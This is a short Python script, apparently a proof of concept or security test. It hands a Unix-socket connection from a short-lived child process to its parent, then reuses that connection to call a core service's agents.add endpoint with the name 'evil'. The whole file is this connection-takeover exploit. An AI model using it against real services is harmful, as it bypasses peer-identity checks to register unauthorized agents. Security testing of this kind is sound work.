"""Opens a connection in a child, takes it over, waits until the child has ended, and asks through it.

hand_on.py SOCKET prints what the core answers to `agents.add`.
"""

import os
import socket
import sys

mine, childs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
child = os.fork()
if child == 0:
    opened = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    opened.connect(sys.argv[1])
    socket.send_fds(childs, [b"x"], [opened.fileno()])
    # Until it is accepted: the core has seen a living process.
    opened.send(b"POST /call/core.ping HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
    opened.recv(65536)
    os._exit(0)
_, descriptors, _, _ = socket.recv_fds(mine, 1, 1)
os.waitpid(child, 0)
taken = socket.socket(fileno=descriptors[0])
body = b'{"name": "evil"}'
taken.send(b"POST /call/agents.add HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
answer = b""
while piece := taken.recv(65536):
    answer += piece
print(answer.decode())
